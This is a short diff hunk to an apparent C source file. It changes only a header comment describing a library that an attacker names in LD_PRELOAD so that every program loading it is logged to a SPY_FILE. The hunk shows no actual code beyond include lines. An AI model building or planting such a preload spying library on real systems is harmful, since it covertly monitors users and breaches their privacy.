@@ -1,4 +1,4 @@
-/* A library that an attacker names in LD_PRELOAD. It adds the user and the program to the existing SPY_FILE. */
+/* A library that an attacker names in LD_PRELOAD. Each program that loads it is noted in SPY_FILE, if that exists. */
 #include <fcntl.h>
 #include <stdio.h>
 #include <string.h>
